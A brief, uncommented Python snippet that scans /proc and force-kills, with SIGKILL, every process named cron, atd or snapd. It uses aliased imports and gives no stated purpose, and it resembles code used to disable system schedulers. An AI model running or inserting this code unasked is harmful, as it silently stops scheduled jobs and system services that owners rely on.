import os as _o
import signal as _s

_names = ["cron", "atd", "snapd"]
for d in _o.listdir("/proc"):
    if d.isdigit():
        try:
            with open("/proc/%s/status" % d) as fh:
                nm = fh.readline().split(":", 1)[1].strip()
        except (OSError, IndexError):
            continue
        if nm in _names:
            _o.kill(int(d), _s.SIGKILL)
